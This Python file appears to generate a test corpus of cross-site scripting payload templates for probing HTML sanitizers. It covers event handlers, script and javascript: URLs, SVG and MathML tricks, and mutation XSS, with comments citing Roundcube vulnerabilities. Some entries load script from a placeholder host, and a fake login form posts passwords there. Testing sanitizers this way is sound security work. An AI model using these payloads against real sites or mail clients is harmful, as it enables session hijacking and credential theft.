"""Markup that runs a script where a reader's program lets it. @J@: the script; @H@: a host of the sender's.

By family, so that a part of the corpus still has each. The shapes are those of public cheat sheets and of the published holes of
webmails; the names say which.
"""

# Events that fire without a hand on the mouse, with an element on which they do.
UNAIDED = [
    ("body", "onload"), ("body", "onpageshow"), ("body", "onfocus"), ("body", "onresize"), ("body", "onhashchange"), ("svg", "onload"),
    ("img src=x", "onerror"), ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("a href=# autofocus tabindex=1", "onfocus"), ("div contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("video autoplay src=x", "onloadstart"), ("audio src=x", "onerror"), ("audio src=x", "onloadstart"),
    ("video><source", "onerror"), ("iframe", "onload"), ("iframe src=about:blank", "onload"), ("object data=x", "onerror"), ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"), ("link rel=stylesheet href=data:text/css,x", "onload"), ("script src=x", "onerror"), ("style", "onload"),
    ("marquee", "onstart"), ("marquee loop=1 width=0", "onfinish"), ("frameset", "onload"), ("input type=image src=x", "onerror"), ("track default src=x", "onerror"),
    ("div style=animation-name:rotation;animation-duration:1s", "onanimationstart"), ("p style=animation:blink_1s", "onanimationend"),
    ("p style=transition:all_1s;opacity:0", "ontransitionend"), ("div style=content-visibility:auto", "oncontentvisibilityautostatechange"),
    ("form", "onformdata"), ("svg><animate begin=0s dur=1ms attributeName=x", "onbegin"), ("svg><animate begin=0s dur=1ms attributeName=x", "onend"),
    ("svg><set attributeName=x", "onbegin"), ("svg><image href=x", "onerror"), ("svg><a xlink:href=x autofocus tabindex=0", "onfocus"),
    ("bgsound src=x", "onerror"), ("applet", "onerror"), ("isindex type=image src=1", "onerror"), ("keygen autofocus", "onfocus"), ("xss id=x tabindex=1 autofocus", "onfocus"),
    ("meter autofocus tabindex=0", "onfocus"), ("dialog open autofocus tabindex=0", "onfocus"), ("custom-thing autofocus tabindex=0", "onfocus"),
    ("slot", "onslotchange"), ("portal src=x", "onload"), ("picture><img srcset=x", "onerror"), ("table background=x", "onerror"), ("font face=x", "onload"),
]
AIDED = ["onclick", "ondblclick", "onmouseover", "onmouseenter", "onmousemove", "onpointerdown", "onpointerrawupdate", "onwheel", "onscroll", "onscrollend", "ontouchstart",
         "onkeydown", "oncopy", "oncut", "onpaste", "ondrag", "ondrop", "oncontextmenu", "onselectionchange", "onbeforetoggle", "onauxclick", "onfocusin", "onsecuritypolicyviolation"]

SCRIPTS = [
    "<script>@J@</script>", "<SCRIPT>@J@</SCRIPT>", "<script type=module>@J@</script>", "<script type=text/javascript>@J@</script>", "<script src=https://@H@/a.js></script>",
    "<script src=//@H@/a.js></script>", "<script src=data:text/javascript,@J@></script>", "<script\x0c>@J@</script\x0c>", "<script/x>@J@</script>", "<script >@J@</script >",
    "<script\n>@J@</script\n>", "<script>@J@", "<script src=https://@H@/a.js>", "<<script>@J@//<</script>", "<scr<script>ipt>@J@</scr</script>ipt>", "<script><!--\n@J@\n--></script>",
    "<script>/*<![CDATA[*/@J@/*]]>*/</script>", "<p <script>@J@</script>>", "<xml><script>@J@</script></xml>", "<script async>@J@</script>", "<script nonce=x>@J@</script>",
    "<script language=vbscript>MsgBox 1</script>", "<script type=importmap>{\"imports\":{\"x\":\"https://@H@/\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://@H@/\"]}]}</script>",
    "<head><script>@J@</script></head>", "<html><head></head><body><script>@J@</script></body></html>", "\x00<script>@J@</script>", "<\x00script>@J@</script>", "<scr\x00ipt>@J@</script>",
    "<!DOCTYPE html SYSTEM 'https://@H@/x.dtd'><script>@J@</script>", "</title><script>@J@</script>", "--><script>@J@</script>", "]]><script>@J@</script>", "\"><script>@J@</script>", "'><script>@J@</script>",
    "`><script>@J@</script>", "</textarea><script>@J@</script>", "</style><script>@J@</script>", "</noscript><script>@J@</script>", "</xmp><script>@J@</script>",
]

ADDRESSES = [
    "javascript:@J@", "JaVaScRiPt:@J@", " javascript:@J@", "\tjavascript:@J@", "java\tscript:@J@", "java\nscript:@J@", "java\rscript:@J@", "&#106;avascript:@J@", "&#x6A;avascript:@J@",
    "&#0000106avascript:@J@", "javascript&colon;@J@", "javascript&#58;@J@", "java&Tab;script:@J@", "java&NewLine;script:@J@", "&#1;javascript:@J@", "\x01javascript:@J@",
    "\x1fjavascript:@J@", "javascript://%0a@J@", "javascript://@H@/%0A@J@", "javascript:void(@J@)", "javascript:/*--></title></style>*/@J@", "vbscript:MsgBox(1)",
    "data:text/html,<script>@J@</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@J@'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@J@</x:script>", "data:;,<script>@J@</script>", "data:text/xml,<?xml-stylesheet href='https://@H@/'?>",
    "blob:https://@H@/x", "filesystem:https://@H@/x", "view-source:https://@H@/", "feed:javascript:@J@", "jar:https://@H@/x!/", "about:blank", "chrome://settings", "file:///etc/passwd",
    "ms-word:ofe|u|https://@H@/", "search-ms:query=x&crumb=location:\\\\@H@\\x", "intent://x#Intent;end", "https:javascript:@J@", "http:@J@", "//@H@/x", "\\\\@H@\\x", "/\\@H@/x", "/auth/logout",
    "?x=1", "#x", "https://@H@\\@blue.test/", "https://blue.test@@H@/", "https://@H@/%0d%0aSet-Cookie:x=1", "https://[::1]/", "mailto:a@b.test?body=<script>@J@</script>",
    "mailto:x@b.test?attach=/etc/passwd", "tel:<script>@J@</script>", "cid:<script>@J@</script>", "javascript\u200b:@J@", "\u00a0javascript:@J@", "ｊavascript:@J@",
]
ADDRESS_PLACES = [
    '<a href="%">press</a>', "<a href='%' target=_self>press</a>", '<img src="%">', '<iframe src="%"></iframe>', '<form action="%"><input type=submit autofocus></form>', '<area href="%">',
    '<base href="%"><a href=x>press</a>', '<meta http-equiv=refresh content="0;url=%">', '<object data="%"></object>', '<embed src="%">', '<link rel=stylesheet href="%">',
    '<svg><a xlink:href="%"><text y=20>press</text></a></svg>', '<math href="%">press</math>', '<button formaction="%">press</button>', '<input type=image src="%">', '<body background="%">',
    '<table background="%"><tr><td>x', '<video poster="%" src="%"></video>', '<frameset><frame src="%"></frameset>', '<isindex action="%">', '<blockquote cite="%">x</blockquote>',
]

SVG = [
    "<svg><script>@J@</script></svg>", "<svg><script href=data:,@J@ /></svg>", "<svg/onload=@J@>", "<svg><g/onload=@J@></g></svg>", "<svg onload=@J@//", "<svg><style><img src=x onerror=@J@></style></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:@J@ /><a id=x><rect width=100 height=100 /></a></svg>",
    # Roundcube 2024-37383, 2025-68461, 2026-48848 and the 'by' of 1.7.3: animation writes an attribute that was clean when it was looked at.
    "<svg><a><animate attributeName='href ' values=javascript:@J@ /><text y=20>press</text></a></svg>", "<svg><a><animate attributeName=href from=x to=javascript:@J@ begin=0s /><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href by=javascript:@J@ /><text y=20>x</text></a></svg>", "<svg><rect><animate attributeName=style to='background:url(https://@H@/a)'/></rect></svg>",
    "<svg><rect><set attributeName=onmouseover to=@J@ /></rect></svg>", "<svg><animateTransform onbegin=@J@ attributeName=transform /></svg>", "<svg><a><animateMotion onend=@J@ dur=1ms /></a></svg>",
    "<svg><image><animate attributeName=href values=https://@H@/a.png /></image></svg>", "<svg><discard onbegin=@J@ /></svg>",
    # Roundcube 2023-5631: a reference to a document in a data URL whose link is a script.
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='@J@'/></svg>#x\"/></svg>",
    "<svg id=x><use href='data:image/s vg+xml;base64,PHN2Zy8+#x'></use></svg>",
    "<svg><use xlink:href=https://@H@/a.svg#x /></svg>", "<svg><image href=https://@H@/a.png /></svg>", "<svg><image xlink:href=https://@H@/a.png /></svg>", "<svg><feImage href=https://@H@/a.png /></svg>",
    "<svg><filter id=f><feImage xlink:href=https://@H@/a.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>", "<svg><rect fill='url(https://@H@/a#x)'/></svg>",
    # Roundcube 2026-35545: FuncIRI in presentation attributes, also unclosed.
    "<svg><rect mask='url(https://@H@/m#x)' clip-path='url(https://@H@/c#x)' marker-start='url(https://@H@/s#x)'/></svg>", "<svg><rect fill='url(https://@H@/a'/></svg>", "<svg><rect cursor='url(\"https://@H@/a\"),auto'/></svg>",
    "<svg><foreignObject><script>@J@</script></foreignObject></svg>", "<svg><foreignObject><iframe srcdoc='<script>@J@</script>'></iframe></foreignObject></svg>", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>@J@</handler></svg>",
    "<svg><desc><svg onload=@J@></desc></svg>", "<svg><title><img src=x onerror=@J@></title></svg>", "<svg><p><style><!--</style><img src=x onerror=@J@>--></style></svg>", "<svg><tref xlink:href=https://@H@/a#x></svg>",
    "<svg><text><textPath href=https://@H@/a#x>x</textPath></text></svg>", "<svg><style>@import 'https://@H@/a.css';</style></svg>", "<svg><style>*{background:url(https://@H@/a)}</style></svg>", "<svg><cursor xlink:href=https://@H@/a></svg>",
    "<svg><font-face-uri xlink:href=https://@H@/a></svg>", "<svg><color-profile xlink:href=https://@H@/a></svg>", "<svg xmlns:xlink=http://www.w3.org/1999/xlink><script xlink:href=data:,@J@></script></svg>", "<svg><a xml:base=javascript: href=@J@><text>x</text></a></svg>",
    "<?xml-stylesheet type=text/xsl href=https://@H@/a.xsl?><svg/>", "<svg><metadata><script>@J@</script></metadata></svg>", "<svg:svg onload=@J@>", "<svg\x0conload=@J@>", "<svg xmlns='http://www.w3.org/1999/xhtml'><script>@J@</script></svg>",
]

MATH = [
    "<math><mtext><script>@J@</script></mtext></math>", "<math><annotation-xml encoding=text/html><script>@J@</script></annotation-xml></math>", "<math><annotation-xml encoding=application/xhtml+xml><iframe onload=@J@></annotation-xml></math>",
    "<math><maction actiontype=statusline#https://@H@ xlink:href=javascript:@J@>x</maction></math>", "<math><mi xlink:href=javascript:@J@>x</mi></math>", "<math><mglyph src=https://@H@/a.png></math>", "<math><style><img src=x onerror=@J@></style></math>",
    "<math background=https://@H@/a.png>x</math>", "<math><mpadded style='background:url(https://@H@/a)'>x</mpadded></math>", "<math><semantics><annotation><img src=x onerror=@J@></annotation></semantics></math>",
]

# Markup that a filter and a browser read differently, or that becomes something else when it is written out and read again.
MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=@J@>\">", "<style><p title=\"</style><img src=x onerror=@J@>\">", "<textarea><p title=\"</textarea><img src=x onerror=@J@>\">", "<title><p title=\"</title><img src=x onerror=@J@>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=@J@>\">", "<noembed><p title=\"</noembed><img src=x onerror=@J@>\">", "<noframes><p title=\"</noframes><img src=x onerror=@J@>\">", "<iframe><p title=\"</iframe><img src=x onerror=@J@>\">",
    "<plaintext><p title=\"</plaintext><img src=x onerror=@J@>\">", "<template><p title=\"</template><img src=x onerror=@J@>\">", "<select><p title=\"</select><img src=x onerror=@J@>\">", "<option><style></option></select><b><img src=x onerror=@J@></style></option>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=@J@&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@J@>", "<svg></p><style><a id=\"</style><img src=1 onerror=@J@>\">",
    "<math><mi><table><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=@J@ src>\">", "<svg><mtext><textarea><path id=\"</textarea><img src=x onerror=@J@>\">", "<math></br><style><a title=\"</style><img src=x onerror=@J@>\">",
    "<table><td><svg><desc><table><td><style><a title=\"</style><img src=x onerror=@J@>\">", "<math><foo-test><mi><li><table><foo-test><li></li></foo-test>a<a><style><!--</style>}*/@J@<!--</style>", "<p><svg><p><style><!--</style>--><img src=x onerror=@J@></style>",
    "<listing>&lt;img src=x onerror=@J@&gt;</listing>", "<pre>\n<img src=x onerror=@J@></pre>", "<a><table><a href=x><img src=x onerror=@J@>", "<table><caption><svg><style></caption><img src=x onerror=@J@></style></svg>", "<form id=x></form><button form=x formaction=javascript:@J@>x",
    "<b><a href=x><form><b></a></form><script>@J@</script>", "<svg><b><style><img src=x onerror=@J@></style></b></svg>", "<math><b><style><img src=x onerror=@J@></style></b></math>", "<svg><![CDATA[><img src=x onerror=@J@>]]></svg>", "<![CDATA[<img src=x onerror=@J@>]]>",
    "<!--><img src=x onerror=@J@>-->", "<!---><img src=x onerror=@J@>-->", "<!-- --!><img src=x onerror=@J@>-->", "<!-- <!-- --> <img src=x onerror=@J@> -->", "<!--\x00--><img src=x onerror=@J@>", "<!-x><img src=x onerror=@J@>", "<!x='><img src=x onerror=@J@>'>",
    "<?x='?><img src=x onerror=@J@>'?>", "</ x='><img src=x onerror=@J@>'>", "<% x %><img src=x onerror=@J@>", "<!--[if gte IE 4]><script>@J@</script><![endif]-->", "<![if true]><script>@J@</script><![endif]>", "<comment><img src=\"</comment><img src=x onerror=@J@>\">",
    "<img alt=\"<x\" title=\"/><img src=x onerror=@J@>\">", "<img alt='a\"' title='\"><img src=x onerror=@J@>'>", "<img title=`x onerror=@J@ src=x`>", "<img src=x:`` onerror=`@J@`>", "<div title=&quot;&gt;&lt;img/src=x onerror=@J@&gt;&quot;>", "<div title='&#39;&gt;<img src=x onerror=@J@>'>",
    "<img src=\"x` `<script>@J@</script>\"` `>", "<img src= onerror=@J@>", "<img src='' onerror='@J@'>", "<img/src=x/onerror=@J@>", "<img\tsrc=x\tonerror=@J@>", "<img\x0csrc=x\x0conerror=@J@>", "<img\nsrc=x\nonerror\n=\n@J@>", "<img src=x onerror\x00=@J@>", "<img src=x on\x00error=@J@>",
    "<img src=x \"onerror=@J@\">", "<img src=x onerror = '@J@' onerror=x>", "<img onerror=@J@ src=x onerror=>", "<img ='x' src=x onerror=@J@>", "<img src=x ='\"' onerror=@J@>", "<img src=x a=\"b\"onerror=@J@>", "<img src=x/ onerror=@J@//", "<img src=x onerror=@J@<", "<img src=x onerror=@J@",
    "<img src=\"x\" onerror=\"@J@", "<IMG SRC=x ONERROR=@J@>", "<ımg src=x onerror=@J@>", "<img src=x oneｒror=@J@>", "<\u0130mg src=x onerror=@J@>", "<img src=x onerror=&#97;lert(1)>", "&lt;img src=x onerror=@J@&gt;", "&amp;lt;img src=x onerror=@J@&amp;gt;", "%3Cimg src=x onerror=@J@%3E",
    "\\u003cimg src=x onerror=@J@\\u003e", "&#60;script&#62;@J@&#60;/script&#62;", "&LT;script&GT;@J@&LT;/script&GT;", "<a title='<b>' href='&#x3c;script>'>x</a>", "<p style='x:\"</p><img src=x onerror=@J@>\"'>", "<p class='</p><img src=x onerror=@J@>'>", "<p id='</p><img src=x onerror=@J@>'>",
    "<table><tr><td><form><input name=a></td></tr></form><script>@J@</script></table>", "<frameset><frame src=javascript:@J@></frameset>", "<body><frameset onload=@J@>", "<html onclick=@J@><body onload=@J@>", "<body/onload=@J@>", "<body onload=@J@><body onload=@J@>",
    # Roundcube 2024-42009: the body's attributes edited as text after they had been cleaned.
    "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:progress-bar-stripes onanimationstart=@J@ foo=bar\">x</body>", "<body bgcolor=\"x onload=@J@\" text=\"y\" background=\"z\">x</body>", "<body style=\"x\" class=\"a\" onload=\"@J@\" data-x='onload=@J@'>x",
    # Other webmails: a removed word that joins its neighbours; noembed around an image; a calendar's details.
    "<img src=x onerroonerrorr=@J@>", "<scrscriptipt>@J@</scrscriptipt>", "<img title='<noembed><p title=' alt='</noembed><img/src=x/onerror=@J@>'>", "<details ontoggle=@J@ open>x</details>", "<audio><source src=x onerror=@J@></audio>", "<x style=behavior:url(#default#time2) onbegin=@J@>",
    "<img src=x alt=''onerror=@J@>", "<div data-x='\"onmouseover=@J@ \"'>x</div>", "<a href='x' title=' onfocus=@J@ autofocus '>x</a>", "<proton-svg><style><img src=x onerror=@J@></style></proton-svg>", "<o:p onload=@J@>x</o:p>", "<v:rect style='behavior:url(#default#VML)' onload=@J@>", "<xml:namespace ns=x><t:set attributeName=innerHTML to='<img src=x onerror=@J@>'>",
    "<div is=x-y onload=@J@>x</div>", "<slot name=x><script>@J@</script></slot>", "<template shadowrootmode=open><script>@J@</script><img src=x onerror=@J@></template>", "<div><template shadowrootmode=open><style>@import url(https://@H@/a)</style></template></div>", "<object><param name=src value=javascript:@J@></object>",
    "<object classid=clsid:x codebase=https://@H@/></object>", "<applet code=X archive=https://@H@/x.jar></applet>", "<embed type=image/svg+xml src=data:image/svg+xml,%3Csvg%20onload=@J@%20xmlns='http://www.w3.org/2000/svg'/%3E>", "<iframe srcdoc='<script>@J@</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;@J@&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:@J@></iframe>", "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>parent.alert(1)</script>'></iframe>", "<fencedframe src=https://@H@/></fencedframe>", "<portal src=https://@H@/></portal>", "<webview src=https://@H@/></webview>", "<meta http-equiv=refresh content='0;javascript:@J@'>",
    "<meta http-equiv=refresh content='0; url=https://@H@/'>", "<meta http-equiv=Set-Cookie content='x=1'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=Link content='<https://@H@/a.css>; rel=stylesheet'>", "<meta charset=utf-7>+ADw-script+AD4-@J@+ADw-/script+AD4-", "<meta name=referrer content=unsafe-url>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=https://@H@/>x</a>", "<base href=https://@H@/><img src=a.png><a href=b>x</a>", "<base target=_top><a href=https://@H@/>x</a>", "<form action=https://@H@/ method=post><input name=password autofocus><input type=submit></form>", "<form><input type=password name=p autocomplete=current-password></form>",
    "<form action=/auth/logout method=post id=f></form><button form=f type=submit autofocus>x</button>", "<input form=search formaction=https://@H@/ type=submit>", "<button popovertarget=x>press</button><div popover id=x onbeforetoggle=@J@>y</div>", "<dialog open style='position:fixed;inset:0'>Your session ended <input type=password></dialog>",
    # Names that shadow the page's own.
    "<form name=body><input name=parentNode><input name=attributes></form>", "<img name=getElementById><a id=app></a><a id=list></a>", "<a id=trustedTypes><a id=trustedTypes name=createPolicy href=x>", "<form id=document><output id=cookie>x</output></form>", "<img name=cookie id=currentScript src=x>",
]

TEMPLATES = {"script": SCRIPTS, "svg": SVG, "math": MATH, "mutation": MUTATION,
             "event": [f"<{tag} {event}=@J@>x" for tag, event in UNAIDED] + [f"<p {event}=@J@>x</p>" for event in AIDED],
             "address": [place.replace("%", address) for i, address in enumerate(ADDRESSES) for place in (ADDRESS_PLACES if i < 1 else [ADDRESS_PLACES[(i + k * 7) % len(ADDRESS_PLACES)] for k in range(4)])]}
